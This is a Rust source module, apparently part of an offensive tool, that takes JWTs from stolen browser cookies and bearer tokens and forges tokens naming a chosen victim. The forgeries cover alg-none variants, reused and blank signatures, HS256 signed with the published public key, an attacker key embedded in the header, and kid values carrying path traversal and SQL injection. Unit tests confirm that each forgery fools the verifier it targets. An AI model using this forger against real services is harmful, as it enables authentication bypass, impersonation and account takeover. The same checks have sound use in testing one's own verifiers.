//! Tokens nobody issued.

use aws_lc_rs::hmac;
use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, KeyPair};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::text::{base64url, from_base64url, random, unix_seconds};
use crate::thief::Loot;

/// A forged token.
#[derive(Clone, Debug)]
pub(crate) struct Forged {
    /// What is done in it.
    pub(crate) what: String,
    pub(crate) token: String,
}

/// The JWT among what a browser holds.
pub(crate) fn jwt_of(loot: &Loot) -> Option<String> {
    let mut all = loot.bearers.iter().chain(loot.cookies.iter().map(|(_, value)| value));
    all.find(|value| parts(value).is_some()).cloned()
}

/// The second at which a token ends, as it says.
pub(crate) fn end_of(token: &str) -> Option<u64> {
    parts(token)?.1.get("exp")?.as_u64()
}

/// Whether it is a token past its end.
pub(crate) fn is_over(token: &str) -> bool {
    end_of(token).is_some_and(|end| end <= unix_seconds())
}

/// Header and claims.
fn parts(token: &str) -> Option<(Value, Value)> {
    let mut parts = token.split('.');
    let mut read = || serde_json::from_slice::<Value>(&from_base64url(parts.next()?)?).ok().filter(Value::is_object);
    Some((read()?, read()?))
}

/// Tokens that name `victim`, made from the attacker's own token and the published keys.
pub(crate) fn forgeries(own: Option<&str>, victim: &str, keys: &[Value]) -> Vec<Forged> {
    let (header, mut claims) = own.and_then(parts).unwrap_or_else(|| {
        (json!({ "alg": "ES256", "typ": "at+jwt" }), json!({ "sub": victim, "jti": random(), "sid": random() }))
    });
    let now = unix_seconds();
    claims["sub"] = json!(victim);
    claims["iat"] = json!(now);
    claims["exp"] = json!(now + 300);
    let mut all = Vec::new();
    let mut add = |what: &str, token: String| all.push(Forged { what: what.to_owned(), token });

    for none in ["none", "None", "NONE", "nOnE"] {
        let header = json!({ "alg": none, "typ": "at+jwt" });
        add(&format!("alg {none}, no signature"), format!("{}.", unsigned(&header, &claims)));
    }
    if let Some(own) = own {
        let signature = own.rsplit_once('.').map_or("", |(_, signature)| signature);
        add("the victim's name under the attacker's signature", format!("{}.{signature}", unsigned(&header, &claims)));
        let header_alone = json!({ "alg": "none" });
        add("alg none beside the attacker's signature", format!("{}.{signature}", unsigned(&header_alone, &claims)));
    }
    add("an empty signature", format!("{}.", unsigned(&header, &claims)));
    add("a signature of zeros", format!("{}.{}", unsigned(&header, &claims), base64url([0; 64])));
    for (what, secret) in public_key_as_secret(keys) {
        let mut header = json!({ "alg": "HS256", "typ": "at+jwt" });
        if let Some(kid) = keys.first().and_then(|key| key.get("kid")) {
            header["kid"] = kid.clone();
        }
        add(&format!("HS256 with {what} as the secret"), by_hmac(&header, &claims, &secret));
    }
    if let Some((jwk, sign)) = own_key() {
        let with_key = json!({ "alg": "ES256", "typ": "at+jwt", "jwk": jwk });
        add("a key of the attacker's in the header (jwk)", sign(&unsigned(&with_key, &claims)));
        let mut as_theirs = header.clone();
        as_theirs["alg"] = json!("ES256");
        add("a key of the attacker's under the published key's name", sign(&unsigned(&as_theirs, &claims)));
    }
    for (what, kid, secret) in [
        ("a key id that is a path to an empty file", "../../../../../../dev/null", ""),
        ("a key id that is a query", "' UNION SELECT 'secret' -- ", "secret"),
        ("a key id that names nothing", "", ""),
    ] {
        let header = json!({ "alg": "HS256", "typ": "at+jwt", "kid": kid });
        add(what, by_hmac(&header, &claims, secret.as_bytes()));
    }
    all
}

fn unsigned(header: &Value, claims: &Value) -> String {
    format!("{}.{}", base64url(header.to_string()), base64url(claims.to_string()))
}

fn by_hmac(header: &Value, claims: &Value, secret: &[u8]) -> String {
    let signed = unsigned(header, claims);
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), signed.as_bytes());
    format!("{signed}.{}", base64url(tag))
}

/// A fresh key as a JWK, and a signer with it.
fn own_key() -> Option<(Value, impl Fn(&str) -> String)> {
    let key = EcdsaKeyPair::generate(&ECDSA_P256_SHA256_FIXED_SIGNING).ok()?;
    let point = key.public_key().as_ref();
    let jwk = json!({ "kty": "EC", "crv": "P-256", "x": base64url(&point[1..33]), "y": base64url(&point[33..65]) });
    let sign = move |signed: &str| {
        let signature = key.sign(&SystemRandom::new(), signed.as_bytes());
        format!("{signed}.{}", base64url(signature.expect("a key that was just made signs")))
    };
    Some((jwk, sign))
}

/// The spellings of a published key that a confused verifier may take for its secret.
fn public_key_as_secret(keys: &[Value]) -> Vec<(&'static str, Vec<u8>)> {
    /// SubjectPublicKeyInfo of a P-256 key, up to the point.
    const SPKI: [u8; 26] = [
        0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a, 0x86, 0x48,
        0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
    ];
    let Some(key) = keys.first() else { return Vec::new() };
    let coordinate = |name: &str| key.get(name)?.as_str().and_then(from_base64url);
    let mut all = vec![("the public key's JWK", key.to_string().into_bytes())];
    if let (Some(x), Some(y)) = (coordinate("x"), coordinate("y")) {
        let point = [&[4], x.as_slice(), y.as_slice()].concat();
        let der = [SPKI.as_slice(), point.as_slice()].concat();
        let lines: Vec<String> = STANDARD
            .encode(&der)
            .as_bytes()
            .chunks(64)
            .map(|line| String::from_utf8_lossy(line).into_owned())
            .collect();
        let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", lines.join("\n"));
        all.push(("the public key's PEM", format!("{pem}\n").into_bytes()));
        all.push(("the public key's PEM without its last line feed", pem.into_bytes()));
        all.push(("the public key's DER", der));
        all.push(("the public key's point", point));
    }
    all
}

#[cfg(test)]
mod tests {
    use aws_lc_rs::signature::{ECDSA_P256_SHA256_FIXED, UnparsedPublicKey};

    use super::*;

    /// A token as its issuer's key signed it, and that key as it is published.
    fn issued() -> (String, Value) {
        let (mut jwk, sign) = own_key().unwrap();
        jwk["kid"] = json!("one");
        let header = json!({ "alg": "ES256", "typ": "at+jwt", "kid": "one" });
        (sign(&unsigned(&header, &json!({ "sub": "mallory", "exp": unix_seconds() + 60 }))), jwk)
    }

    fn split(token: &str) -> (&str, Vec<u8>) {
        let (signed, signature) = token.rsplit_once('.').unwrap();
        (signed, from_base64url(signature).unwrap())
    }

    fn verifies(token: &str, jwk: &Value) -> bool {
        let point = [&[4], from_base64url(jwk["x"].as_str().unwrap()).unwrap().as_slice()].concat();
        let point = [point, from_base64url(jwk["y"].as_str().unwrap()).unwrap()].concat();
        let (signed, signature) = split(token);
        UnparsedPublicKey::new(&ECDSA_P256_SHA256_FIXED, point).verify(signed.as_bytes(), &signature).is_ok()
    }

    fn tagged_by(token: &str, secret: &[u8]) -> bool {
        let (signed, tag) = split(token);
        hmac::verify(&hmac::Key::new(hmac::HMAC_SHA256, secret), signed.as_bytes(), &tag).is_ok()
    }

    /// A forgery that nobody would accept tests nothing: each must pass the verifier whose mistake it is made for.
    /// Negative control: the right verifier takes the genuine token and none of these.
    #[test]
    fn each_forgery_fools_the_verifier_it_is_made_for() {
        let (own, published) = issued();
        assert!(verifies(&own, &published));
        let all = forgeries(Some(&own), "ada", std::slice::from_ref(&published));
        assert!(all.len() > 15, "{}", all.len());
        let secrets: Vec<Vec<u8>> =
            public_key_as_secret(std::slice::from_ref(&published)).into_iter().map(|(_, secret)| secret).collect();
        for Forged { what, token } in &all {
            assert!(!verifies(token, &published), "{what}: the right verifier takes it");
            let (header, claims) = parts(token).unwrap_or_else(|| panic!("{what} is no token"));
            assert_eq!(claims["sub"], "ada", "{what}");
            assert!(claims["exp"].as_u64().unwrap() > unix_seconds(), "{what} is over");
            let (_, signature) = split(token);
            let fools = match header["alg"].as_str().unwrap() {
                // Whoever believes alg none, in whichever spelling, looks at no signature.
                none if none.eq_ignore_ascii_case("none") => true,
                "HS256" if header["kid"] == published["kid"] => secrets.iter().any(|secret| tagged_by(token, secret)),
                "HS256" => tagged_by(token, b"") || tagged_by(token, b"secret"),
                _ if header["jwk"].is_object() => verifies(token, &header["jwk"]),
                // Made for verifiers that do not look, or that look at the wrong thing.
                _ => signature.is_empty() || signature.iter().all(|&byte| byte == 0) || signature.len() == 64,
            };
            assert!(fools, "{what} fools nobody");
        }
        let mut names: Vec<&str> = all.iter().map(|forged| forged.what.as_str()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), all.len(), "two forgeries have one name");
    }

    #[test]
    fn a_jwt_is_told_from_an_opaque_token() {
        let (own, _) = issued();
        let cookies = vec![("a".to_owned(), "opaque.1.secret".to_owned()), ("b".to_owned(), own.clone())];
        assert_eq!(jwt_of(&Loot { cookies: cookies.clone(), bearers: Vec::new() }), Some(own.clone()));
        assert_eq!(jwt_of(&Loot { cookies: cookies[..1].to_vec(), bearers: Vec::new() }), None);
        assert!(!is_over(&own) && !is_over("opaque.1.secret"));
        let past = unsigned(&json!({ "alg": "none" }), &json!({ "exp": unix_seconds() - 1 }));
        assert!(is_over(&format!("{past}.")));
    }
}
